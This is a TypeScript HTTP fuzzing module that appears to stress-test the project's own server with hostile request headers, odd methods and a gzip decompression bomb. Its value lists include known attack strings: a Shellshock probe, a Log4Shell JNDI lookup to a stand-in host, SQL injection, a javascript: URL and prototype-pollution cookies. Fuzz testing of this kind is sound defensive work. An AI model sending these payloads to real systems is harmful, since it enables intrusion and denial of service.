import { gzipSync } from 'node:zlib';
import type { Random } from '@encomenda/platform/random';
import { COOKIE, type FuzzRequest } from '../request.js';

type Headers = (readonly [string, string])[];

const withHeader = (request: FuzzRequest, name: string, value: string): Headers => [
  ...request.headers.filter(([other]) => other.toLowerCase() !== name.toLowerCase()),
  [name, value],
];

const VALUES: readonly (readonly [string, readonly string[]])[] = [
  [
    'If-Match',
    ['*', '"0"', '0', '-1', '999999', '"abc"', 'W/"3"', '1, 2', '1e3', '9'.repeat(400), ''],
  ],
  [
    'Idempotency-Key',
    [
      '',
      ' ',
      'x',
      'chave\tcom tab',
      'ü',
      '../../1',
      'x'.repeat(255),
      'x'.repeat(256),
      'x'.repeat(9_000),
    ],
  ],
  [
    'Content-Type',
    [
      '',
      'text/plain',
      'application/jsonx',
      'application/json; charset=utf-16',
      'application/json; charset=nada',
      'application/json; charset=utf-7',
      'application/json;;;=',
      'multipart/form-data',
      'multipart/form-data; boundary=x',
      'application/x-www-form-urlencoded',
      'application/vnd.api+json',
      '*/*',
      'a/b/c',
    ],
  ],
  ['Content-Encoding', ['gzip', 'br', 'deflate', 'identity', 'x', 'gzip, gzip', 'zstd']],
  ['X-XSRF-TOKEN', ['', 'x', 'a.b', '.', 'x'.repeat(5_000)]],
  [
    'Cookie',
    [
      '',
      'encomenda.sid=; XSRF-TOKEN=',
      'encomenda.sid=s%3Ax.y',
      'encomenda.sid=s%3A' + 'a'.repeat(3_000),
      'encomenda.sid=%E0%A4%A',
      'encomenda.sid=j%3A%7B%22x%22%3A1%7D',
      `${COOKIE}; ${COOKIE}`,
      'x=1;'.repeat(1_500),
      '=;=;=',
      '__proto__=1; constructor=2',
    ],
  ],
  ['Origin', ['https://mau.example', 'null', 'x', 'http://', 'file://']],
  ['Sec-Fetch-Site', ['cross-site', 'same-site', 'none', 'x', '']],
  ['X-HTTP-Method-Override', ['DELETE', 'PUT', 'GET', 'x']],
  ['X-HTTP-Method', ['DELETE']],
  ['X-Forwarded-For', ['127.0.0.1', '1.2.3.4, x, ::1', "' or 1=1", 'x'.repeat(3_000)]],
  ['X-Forwarded-Host', ['mau.example']],
  ['X-Forwarded-Proto', ['https', 'javascript']],
  [
    'Accept',
    ['', 'text/html', '*/*;q=0', 'x'.repeat(5_000), 'text/html,'.repeat(500), 'image/svg+xml'],
  ],
  ['Accept-Encoding', ['gzip', 'br;q=9', '*;q=0', 'x,'.repeat(900)]],
  ['Accept-Language', ['xx', 'pt-BR,'.repeat(900)]],
  ['If-None-Match', ['*', '"x"', 'W/"x", "y"', 'x'.repeat(3_000)]],
  ['If-Modified-Since', ['x', 'Sat, 21 Nov 2099 00:00:00 GMT']],
  [
    'Range',
    [
      'bytes=0-',
      'bytes=0-0',
      'bytes=-1',
      'bytes=9-1',
      'bytes=0-0,1-1,' + '2-2,'.repeat(500),
      'x=1',
    ],
  ],
  ['Expect', ['100-continue', 'x']],
  ['TE', ['trailers']],
  ['Upgrade', ['websocket', 'h2c']],
  ['User-Agent', ['', '() { :;}; echo x', '${jndi:ldap://mau.example/a}', 'x'.repeat(7_000)]],
  ['Referer', ['javascript:alert(1)', 'x'.repeat(5_000)]],
  ['X-Nada', ['x'.repeat(60_000)]],
];

const METHODS = ['HEAD', 'OPTIONS', 'PATCH', 'DELETE', 'PUT', 'POST', 'GET', 'PROPFIND', 'LOCK'];

const bomb = gzipSync(Buffer.alloc(20_000_000, 0x20), { level: 9 });

export const hostileHeaders = (request: FuzzRequest, random: Random): FuzzRequest => {
  const what = random.next();
  if (what < 0.15)
    return { ...request, method: random.pick(METHODS), manner: 'método', foretold: false };
  if (what < 0.17 && request.body)
    return {
      ...request,
      manner: 'bomba gzip',
      headers: withHeader(request, 'Content-Encoding', 'gzip'),
      body: bomb,
      foretold: false,
    };
  if (what < 0.2) {
    const many = Array.from(
      { length: random.pick([100, 300, 2_100]) },
      (_, n) => [`X-${n}`, 'x'] as const,
    );
    return {
      ...request,
      manner: 'cabeçalhos demais',
      headers: [...request.headers, ...many],
      foretold: false,
    };
  }
  const [name, values] = random.pick(VALUES);
  return {
    ...request,
    manner: `cabeçalho ${name}`,
    headers: withHeader(request, name, random.pick(values)),
    foretold: false,
  };
};
